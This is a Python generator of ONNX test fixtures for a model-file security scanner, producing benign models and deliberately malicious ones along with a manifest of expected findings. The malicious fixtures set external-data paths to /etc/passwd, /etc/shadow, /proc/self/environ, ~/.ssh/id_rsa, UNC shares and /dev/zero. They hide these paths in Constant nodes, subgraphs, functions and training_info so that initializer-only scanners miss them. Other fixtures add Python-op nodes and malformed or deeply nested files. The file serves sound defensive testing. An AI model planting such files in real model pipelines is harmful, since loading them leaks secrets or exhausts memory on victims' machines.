#!/usr/bin/python3
"""Generate the ONNX fixtures of testdata/onnx (benign twins and malicious files).

Run from the repository root:  /usr/bin/python3 testdata/onnx/gen/gen_onnx.py
Needs Debian's python3-onnx 1.12 (onnx.helper), python3-numpy and python3-torch 1.13
(the two torch.onnx.export models). Output is deterministic (fixed seeds, no timestamps).

Nothing here loads or runs a model. Malicious files are written with
SerializeToString() and open(): onnx.save() would try to write the external data
of a tensor that still had raw_data (CVE-2025-51480), so it is never used on them.
"""
import io
import json
import os
import sys

import numpy as np
import onnx
from onnx import TensorProto, helper, numpy_helper
from onnx.external_data_helper import set_external_data

ROOT = os.path.normpath(os.path.join(os.path.dirname(os.path.abspath(__file__)), ".."))
BENIGN = os.path.join(ROOT, "benign")
MAL = os.path.join(ROOT, "malicious")
MANIFEST = []


def out(kind, name, data, trick, sev, expect, note):
    path = os.path.join(ROOT, kind, name)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data)
    MANIFEST.append({"file": kind + "/" + name, "kind": kind, "trick": trick,
                     "expect_min_severity": sev, "expect": expect, "note": note})


def model_bytes(graph, opsets=None, ir=8, producer="onnx.helper", functions=None, **kw):
    opsets = opsets or [helper.make_opsetid("", 15)]
    m = helper.make_model(graph, opset_imports=opsets, producer_name=producer,
                          functions=functions or [], **kw)
    m.ir_version = ir
    return m


def ser(m):
    return m.SerializeToString()


def weight(name, shape, seed):
    rng = np.random.default_rng(seed)
    return numpy_helper.from_array(rng.standard_normal(shape).astype(np.float32), name)


def external(t, location, offset=None, length=None):
    """Mark t as stored in an external file, keeping no bytes inline."""
    raw = len(t.raw_data)
    set_external_data(t, location, offset=offset, length=length if length is not None else raw)
    t.ClearField("raw_data")
    t.data_location = TensorProto.EXTERNAL
    return t


def small_graph(name, inits=(), extra_nodes=()):
    x = helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 4])
    y = helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 4])
    nodes = list(extra_nodes) or [helper.make_node("Relu", ["x"], ["y"], name="relu")]
    return helper.make_graph(nodes, name, [x], [y], initializer=list(inits))


# ---------------------------------------------------------------- benign

def torch_mlp():
    import torch
    torch.manual_seed(0)
    m = torch.nn.Sequential(torch.nn.Linear(16, 32), torch.nn.ReLU(), torch.nn.Linear(32, 4))
    b = io.BytesIO()
    torch.onnx.export(m, torch.zeros(1, 16), b, input_names=["input"], output_names=["logits"],
                      opset_version=13, dynamic_axes={"input": {0: "batch"}, "logits": {0: "batch"}})
    out("benign", "mlp_torch.onnx", b.getvalue(), "torch.onnx.export MLP", "low", "",
        "PyTorch 1.13 torch.onnx.export of Linear-ReLU-Linear (opset 13, Gemm/Relu, 4 initializers)")
    b = io.BytesIO()
    torch.onnx.export(m, torch.zeros(1, 16), b, input_names=["input"], output_names=["logits"],
                      opset_version=11, keep_initializers_as_inputs=True)
    out("benign", "mlp_torch_initializers_as_inputs.onnx", b.getvalue(), "initializers listed as graph inputs",
        "low", "", "PyTorch export with keep_initializers_as_inputs=True (IR<4 style); the Inputs fact must exclude them")


def if_loop():
    cond = helper.make_tensor_value_info("cond", TensorProto.BOOL, [])
    x = helper.make_tensor_value_info("x", TensorProto.FLOAT, [4])
    y = helper.make_tensor_value_info("y", TensorProto.FLOAT, [4])
    z = helper.make_tensor_value_info("z", TensorProto.FLOAT, [4])
    then_g = helper.make_graph([helper.make_node("Add", ["x", "bias"], ["then_out"], name="then_add")], "then_branch",
                               [], [helper.make_tensor_value_info("then_out", TensorProto.FLOAT, [4])],
                               initializer=[numpy_helper.from_array(np.arange(4, dtype=np.float32), "bias")])
    else_g = helper.make_graph([helper.make_node("Neg", ["x"], ["else_out"], name="else_neg")], "else_branch",
                               [], [helper.make_tensor_value_info("else_out", TensorProto.FLOAT, [4])])
    if_node = helper.make_node("If", ["cond"], ["y"], name="branch", then_branch=then_g, else_branch=else_g)
    # Loop body: (iter, cond, acc) -> (cond, acc*2)
    body = helper.make_graph(
        [helper.make_node("Identity", ["cond_in"], ["cond_out"], name="keep_going"),
         helper.make_node("Add", ["acc_in", "acc_in"], ["acc_out"], name="double")],
        "loop_body",
        [helper.make_tensor_value_info("iter", TensorProto.INT64, []),
         helper.make_tensor_value_info("cond_in", TensorProto.BOOL, []),
         helper.make_tensor_value_info("acc_in", TensorProto.FLOAT, [4])],
        [helper.make_tensor_value_info("cond_out", TensorProto.BOOL, []),
         helper.make_tensor_value_info("acc_out", TensorProto.FLOAT, [4])])
    trip = numpy_helper.from_array(np.array(3, dtype=np.int64), "trip_count")
    loop = helper.make_node("Loop", ["trip_count", "cond", "y"], ["z"], name="repeat", body=body)
    g = helper.make_graph([if_node, loop], "if_loop", [cond, x], [z], initializer=[trip])
    m = model_bytes(g, producer="onnx.helper")
    helper.set_model_props(m, {"author": "hallmark fixtures", "license": "Apache-2.0"})
    onnx.checker.check_model(m)
    out("benign", "if_loop.onnx", ser(m), "If and Loop subgraphs", "low", "",
        "onnx.helper model with an If (then/else subgraphs, one with an initializer) feeding a Loop; metadata_props set")


def local_function():
    fn = helper.make_function("custom.fn", "ScaledRelu", ["X"], ["Y"],
                              [helper.make_node("Constant", [], ["two"], value=numpy_helper.from_array(np.array(2.0, dtype=np.float32))),
                               helper.make_node("Mul", ["X", "two"], ["XS"]),
                               helper.make_node("Relu", ["XS"], ["Y"])],
                              [helper.make_opsetid("", 15)])
    g = small_graph("uses_function", extra_nodes=[helper.make_node("ScaledRelu", ["x"], ["y"], name="call", domain="custom.fn")])
    m = model_bytes(g, opsets=[helper.make_opsetid("", 15), helper.make_opsetid("custom.fn", 1)], functions=[fn])
    onnx.checker.check_model(m)
    out("benign", "local_function.onnx", ser(m), "model-local FunctionProto", "low", "",
        "a node in domain custom.fn calls a FunctionProto defined in the model (ModelProto.functions, IR 8): not a custom op")


def external_data():
    w = weight("fc.weight", (4, 4), 1)
    b = weight("fc.bias", (4,), 2)
    x = helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 4])
    y = helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 4])
    g = helper.make_graph([helper.make_node("Gemm", ["x", "fc.weight", "fc.bias"], ["y"], name="fc", transB=1)],
                          "external", [x], [y], initializer=[w, b])
    m = model_bytes(g)
    d = os.path.join(BENIGN, "external_data")
    os.makedirs(d, exist_ok=True)
    for f in ("model.onnx", "weights.bin"):
        if os.path.exists(os.path.join(d, f)):
            os.remove(os.path.join(d, f))
    onnx.save_model(m, os.path.join(d, "model.onnx"), save_as_external_data=True, all_tensors_to_one_file=True,
                    location="weights.bin", size_threshold=0)
    with open(os.path.join(d, "model.onnx"), "rb") as f:
        data = f.read()
    out("benign", "external_data/model.onnx", data, "relative external data", "low", "",
        "onnx.save_model(save_as_external_data=True, location='weights.bin'): both tensors in the sibling weights.bin")
    with open(os.path.join(d, "weights.bin"), "rb") as f:
        data = f.read()
    out("benign", "external_data/weights.bin", data, "external data file", "low", "",
        "raw little-endian float32 tensor bytes written by onnx.save_model for model.onnx; not a model format")


def contrib_microsoft():
    x = helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 8])
    y = helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 8])
    w = weight("proj.weight", (8, 8), 3)
    bias = weight("proj.bias", (8,), 4)
    g = helper.make_graph([
        helper.make_node("MatMul", ["x", "proj.weight"], ["mm"], name="MatMul_0"),
        helper.make_node("BiasGelu", ["mm", "proj.bias"], ["y"], name="BiasGelu_0", domain="com.microsoft"),
    ], "torch_jit", [x], [y], initializer=[w, bias])
    m = model_bytes(g, opsets=[helper.make_opsetid("", 14), helper.make_opsetid("com.microsoft", 1)],
                    producer="onnxruntime.transformers", producer_version="1.16.3")
    out("benign", "contrib_microsoft.onnx", ser(m), "onnxruntime contrib op", "low", "",
        "MatMul + com.microsoft BiasGelu, what onnxruntime.transformers' optimizer writes for BERT/GPT-2 MLPs")


def onnx_ml():
    x = helper.make_tensor_value_info("float_input", TensorProto.FLOAT, [None, 4])
    label = helper.make_tensor_value_info("label", TensorProto.INT64, [None])
    probs = helper.make_tensor_value_info("probabilities", TensorProto.FLOAT, [None, 3])
    scaler = helper.make_node("Scaler", ["float_input"], ["variable"], name="Scaler", domain="ai.onnx.ml",
                              offset=[5.84, 3.05, 3.76, 1.2], scale=[1.21, 2.31, 0.57, 1.31])
    clf = helper.make_node("LinearClassifier", ["variable"], ["label", "probability_tensor"], name="LinearClassifier",
                           domain="ai.onnx.ml", classlabels_ints=[0, 1, 2],
                           coefficients=[float(v) for v in np.linspace(-1, 1, 12).round(4)],
                           intercepts=[0.1, 0.2, -0.3], multi_class=1, post_transform="LOGISTIC")
    norm = helper.make_node("Normalizer", ["probability_tensor"], ["probabilities"], name="Normalizer",
                            domain="ai.onnx.ml", norm="L1")
    g = helper.make_graph([scaler, clf, norm], "ONNX(LogisticRegression)", [x], [label, probs])
    m = model_bytes(g, opsets=[helper.make_opsetid("", 15), helper.make_opsetid("ai.onnx.ml", 1)],
                    producer="skl2onnx", producer_version="1.14.1", domain="ai.onnx", model_version=0)
    onnx.checker.check_model(m)
    out("benign", "onnx_ml_classifier.onnx", ser(m), "ai.onnx.ml operators", "low", "",
        "Scaler + LinearClassifier + Normalizer in ai.onnx.ml, laid out like skl2onnx's LogisticRegression pipeline")


# ---------------------------------------------------------------- malicious

def ext_model(location, name, trick, note, sev="high", expect="onnx/external-data-path", offset=None, length=None):
    w = external(weight("fc.weight", (4, 4), 5), location, offset=offset, length=length)
    x = helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 4])
    y = helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 4])
    g = helper.make_graph([helper.make_node("MatMul", ["x", "fc.weight"], ["y"], name="fc")], "leak", [x], [y], initializer=[w])
    out("malicious", name, ser(model_bytes(g)), trick, sev, expect, note)


def malicious_external():
    ext_model("/etc/passwd", "ext_abs_etc_passwd.onnx", "external data absolute path",
              "initializer external_data location=/etc/passwd: loading reads the file into a weight (CVE-2022-25882 class)")
    ext_model("../../../etc/hosts", "ext_traversal_etc_hosts.onnx", "external data ../ traversal",
              "location=../../../etc/hosts climbs out of the model folder (CVE-2022-25882)")
    ext_model("a/../../x", "ext_nested_escape.onnx", "nested a/../../ escape",
              "location=a/../../x: the first segment hides the climb from checks that only look at a leading '..' (CVE-2024-27318)")
    ext_model("C:\\Windows\\win.ini", "ext_windows_drive.onnx", "Windows drive path",
              "location=C:\\Windows\\win.ini, an absolute path on Windows hosts")
    ext_model("\\\\server\\share\\x", "ext_unc_path.onnx", "UNC path",
              "location=\\\\server\\share\\x: on Windows, opening it contacts a remote SMB server (credential leak)")
    ext_model("/dev/zero", "ext_dev_zero.onnx", "device file",
              "location=/dev/zero with a huge length: memory exhaustion when read (research 6.D D4)", length=1 << 40)
    ext_model("weights.bin", "ext_bad_offset_length.onnx", "odd external offset/length",
              "location is fine but offset=-4096 and length=0x10: values loaders handle inconsistently",
              sev="medium", expect="onnx/external-data-value", offset=None, length=None)
    # Patch the last model's offset/length entries to invalid strings.
    p = os.path.join(MAL, "ext_bad_offset_length.onnx")
    m = onnx.load_from_string(open(p, "rb").read())
    t = m.graph.initializer[0]
    del t.external_data[:]
    for k, v in (("location", "weights.bin"), ("offset", "-4096"), ("length", "0x10")):
        e = t.external_data.add()
        e.key, e.value = k, v
    open(p, "wb").write(ser(m))

    # The same trick where top-level-only scanners do not look.
    x = helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 4])
    y = helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 4])

    const = helper.make_node("Constant", [], ["w"], name="hidden_const",
                             value=external(weight("w", (4, 4), 6), "/etc/passwd"))
    g = helper.make_graph([const, helper.make_node("MatMul", ["x", "w"], ["y"], name="fc")], "leak", [x], [y])
    out("malicious", "ext_in_constant_node.onnx", ser(model_bytes(g)), "external data in Constant attribute",
        "high", "onnx/external-data-path", "Constant node's value tensor (AttributeProto.t) is external with location=/etc/passwd; ModelAudit only walks graph.initializer")

    cond = helper.make_tensor_value_info("cond", TensorProto.BOOL, [])
    then_g = helper.make_graph([helper.make_node("Identity", ["secret"], ["then_out"], name="then_id")], "then_branch", [],
                               [helper.make_tensor_value_info("then_out", TensorProto.FLOAT, [4, 4])],
                               initializer=[external(weight("secret", (4, 4), 7), "../../../../etc/passwd")])
    else_g = helper.make_graph([helper.make_node("Identity", ["x"], ["else_out"], name="else_id")], "else_branch", [],
                               [helper.make_tensor_value_info("else_out", TensorProto.FLOAT, [1, 4])])
    g = helper.make_graph([helper.make_node("If", ["cond"], ["y"], name="branch", then_branch=then_g, else_branch=else_g)],
                          "leak", [cond, x], [y])
    out("malicious", "ext_in_if_subgraph.onnx", ser(model_bytes(g)), "external data in If subgraph initializer",
        "high", "onnx/external-data-path", "then_branch subgraph initializer with location=../../../../etc/passwd")

    fn = helper.make_function("evil.fn", "Leak", ["X"], ["Y"],
                              [helper.make_node("Constant", [], ["k"], value=external(weight("k", (4, 4), 8), "/etc/shadow")),
                               helper.make_node("MatMul", ["X", "k"], ["Y"])],
                              [helper.make_opsetid("", 15)])
    g = helper.make_graph([helper.make_node("Leak", ["x"], ["y"], name="call", domain="evil.fn")], "leak", [x], [y])
    m = model_bytes(g, opsets=[helper.make_opsetid("", 15), helper.make_opsetid("evil.fn", 1)], functions=[fn])
    out("malicious", "ext_in_function.onnx", ser(m), "external data in a local function",
        "high", "onnx/external-data-path", "FunctionProto body Constant with location=/etc/shadow (ModelProto.functions, field 25)")

    values = external(numpy_helper.from_array(np.arange(3, dtype=np.float32) + 1, "sparse_w"), "/proc/self/environ")
    indices = numpy_helper.from_array(np.array([0, 5, 10], dtype=np.int64), "sparse_w_indices")
    sp = helper.make_sparse_tensor(values, indices, [4, 4])
    g = helper.make_graph([helper.make_node("MatMul", ["x", "sparse_w"], ["y"], name="fc")], "leak", [x], [y],
                          sparse_initializer=[sp])
    out("malicious", "ext_in_sparse_initializer.onnx", ser(model_bytes(g)), "external data in sparse initializer",
        "high", "onnx/external-data-path", "GraphProto.sparse_initializer values stored at /proc/self/environ (environment, secrets)")

    g = small_graph("main")
    m = model_bytes(g)
    ti = m.training_info.add()
    ti.initialization.CopyFrom(helper.make_graph(
        [helper.make_node("Identity", ["seed"], ["state"], name="init_state")], "init", [],
        [helper.make_tensor_value_info("state", TensorProto.FLOAT, [4, 4])],
        initializer=[external(weight("seed", (4, 4), 9), "../../.ssh/id_rsa")]))
    out("malicious", "ext_in_training_info.onnx", ser(m), "external data in training_info",
        "high", "onnx/external-data-path", "TrainingInfoProto.initialization graph initializer at ../../.ssh/id_rsa")


def malicious_ops():
    x = helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 4])
    y = helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 4])
    g = helper.make_graph([helper.make_node("Backdoor", ["x"], ["y"], name="trigger", domain="com.attacker.ops")], "g", [x], [y])
    m = model_bytes(g, opsets=[helper.make_opsetid("", 15), helper.make_opsetid("com.attacker.ops", 1)])
    out("malicious", "custom_domain_op.onnx", ser(m), "custom domain op", "medium", "onnx/custom-domain",
        "operator Backdoor in domain com.attacker.ops: works only with a native custom-op library")

    g = helper.make_graph([helper.make_node("PyOp", ["x"], ["y"], name="py", domain="ai.onnx.contrib",
                                            CustomType="hallmark_marker_op")], "g", [x], [y])
    m = model_bytes(g, opsets=[helper.make_opsetid("", 15), helper.make_opsetid("ai.onnx.contrib", 1)])
    out("malicious", "pyop_contrib.onnx", ser(m), "onnxruntime-extensions PyOp", "high", "onnx/python-op",
        "PyOp in ai.onnx.contrib: onnxruntime-extensions dispatches it to a Python function registered in the host (research 6.D D4)")

    g = helper.make_graph([helper.make_node("PythonOp", ["x"], ["y"], name="PythonOp_0", domain="prim")], "g", [x], [y])
    m = model_bytes(g, opsets=[helper.make_opsetid("", 15), helper.make_opsetid("prim", 1)])
    out("malicious", "torch_pythonop.onnx", ser(m), "PyTorch PythonOp fallback", "high", "onnx/python-op",
        "prim::PythonOp, what torch.onnx.export writes for an autograd.Function under ONNX_FALLTHROUGH: needs the Python class to run")


def malformed():
    good = open(os.path.join(BENIGN, "mlp_torch.onnx"), "rb").read()
    out("malicious", "malformed_truncated.onnx", good[: len(good) * 3 // 5], "truncated protobuf", "high", "onnx/malformed",
        "mlp_torch.onnx cut at 60%: the graph field's length runs past the end of the file")
    # Re-encode the graph field (7) of a small model with a length beyond the file.
    m = ser(model_bytes(small_graph("g")))
    i = m.index(b"\x3a")  # tag of field 7 (graph); the header fields before it are short strings
    ln, n = 0, 0
    while True:
        c = m[i + 1 + n]
        ln |= (c & 0x7F) << (7 * n)
        n += 1
        if c < 0x80:
            break
    huge = bytes([0xFF, 0xFF, 0xFF, 0xFF, 0x0F])  # 4 GiB - 1
    out("malicious", "malformed_length_beyond_file.onnx", m[: i + 1] + huge + m[i + 1 + n:], "length beyond file",
        "high", "onnx/malformed", "ModelProto.graph declares 4 GiB in a file of a few hundred bytes")

    # 40 nested If subgraphs: beyond the depth cap (32).
    def level(k):
        out_name = "y%d" % k
        if k == 0:
            return helper.make_graph([helper.make_node("Identity", ["x"], [out_name], name="leaf")], "g0", [],
                                     [helper.make_tensor_value_info(out_name, TensorProto.FLOAT, [1, 4])])
        inner = level(k - 1)
        other = helper.make_graph([helper.make_node("Identity", ["x"], ["e%d" % k], name="else%d" % k)], "e%d" % k, [],
                                  [helper.make_tensor_value_info("e%d" % k, TensorProto.FLOAT, [1, 4])])
        return helper.make_graph([helper.make_node("If", ["cond"], [out_name], name="if%d" % k,
                                                   then_branch=inner, else_branch=other)], "g%d" % k, [],
                                 [helper.make_tensor_value_info(out_name, TensorProto.FLOAT, [1, 4])])
    top = level(40)
    top.input.extend([helper.make_tensor_value_info("cond", TensorProto.BOOL, []),
                      helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 4])])
    out("malicious", "deep_nested_if.onnx", ser(model_bytes(top)), "subgraphs nested beyond the cap", "high", "onnx/limit",
        "If then_branch nested 40 deep (cap 32); deep nesting is a parser stack-exhaustion trick and hides what is below")


def main():
    torch_mlp()
    if_loop()
    local_function()
    external_data()
    contrib_microsoft()
    onnx_ml()
    malicious_external()
    malicious_ops()
    malformed()
    with open(os.path.join(ROOT, "manifest.json"), "w") as f:
        f.write("[\n" + ",\n".join(json.dumps(e) for e in MANIFEST) + "\n]\n")
    print("wrote %d fixtures" % len(MANIFEST), file=sys.stderr)


if __name__ == "__main__":
    main()
